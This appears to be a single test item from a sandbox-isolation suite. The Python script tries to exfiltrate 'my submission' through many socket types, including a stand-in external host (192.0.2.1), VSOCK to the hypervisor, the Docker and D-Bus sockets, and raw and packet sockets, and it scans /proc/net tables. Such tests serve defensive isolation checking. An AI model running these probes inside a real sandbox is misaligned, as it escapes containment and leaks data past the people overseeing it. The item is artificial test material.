# row: 38
# class: theft
# place: after training
# allowed: passed
# tries: sends the submission out by every kind of socket: to this machine, to the world, to the hypervisor.

import os
import socket

MPTCP, PACKET, VSOCK, NETLINK, BLUETOOTH, ALG, XDP, QIPCRTR = 262, 17, 40, 16, 31, 38, 44, 42
STREAM, DATAGRAM, RAW = socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW
attempts = [
    (socket.AF_INET, STREAM, 0, ("127.0.0.1", HOST["tcp"])),
    (socket.AF_INET, STREAM, MPTCP, ("127.0.0.1", HOST["tcp"])),
    (socket.AF_INET6, STREAM, 0, ("::1", HOST.get("tcp6", 1))),
    (socket.AF_INET, DATAGRAM, 0, ("127.0.0.1", HOST["udp"])),
    (socket.AF_INET, DATAGRAM, 0, ("192.0.2.1", 53)),
    (socket.AF_INET, STREAM, 0, ("192.0.2.1", 443)),
    (socket.AF_INET, RAW, 1, ("127.0.0.1", 0)),
    (socket.AF_INET, DATAGRAM, 1, ("127.0.0.1", 0)),
    (PACKET, RAW, 0, None),
    (VSOCK, STREAM, 0, None),
    (NETLINK, RAW, 0, None),
    (ALG, socket.SOCK_SEQPACKET, 0, None),
    *((family, DATAGRAM, 0, None) for family in (BLUETOOTH, XDP, QIPCRTR, 29, 15, 9)),
    (socket.AF_UNIX, STREAM, 0, HOST["unix"]),
    (socket.AF_UNIX, STREAM, 0, "\0" + HOST["abstract"]),
    (socket.AF_UNIX, STREAM, 0, "/var/run/docker.sock"),
    (socket.AF_UNIX, STREAM, 0, "/run/dbus/system_bus_socket"),
    (socket.AF_UNIX, DATAGRAM, 0, "/dev/log"),
]
loot = []
for family, kind, protocol, address in attempts:
    try:
        with socket.socket(family, kind, protocol) as sock:
            sock.settimeout(1)
            if address is not None:
                sock.connect(address)
                sock.send(b"my submission")
            loot.append((family, kind, protocol, address))
    except (OSError, OverflowError):
        pass
for name in ("localhost", "example.org"):
    try:
        loot.append(socket.getaddrinfo(name, 80))
    except OSError:
        pass
for path in ("/proc/net/tcp", "/proc/net/unix", "/proc/net/arp", "/proc/net/route"):
    try:
        with open(path) as file:
            loot += [line for line in file if HOST["folder"] in line or HOST["word"] in line]
    except OSError:
        pass
if loot:
    raise RuntimeError(f"STOLEN {loot}")
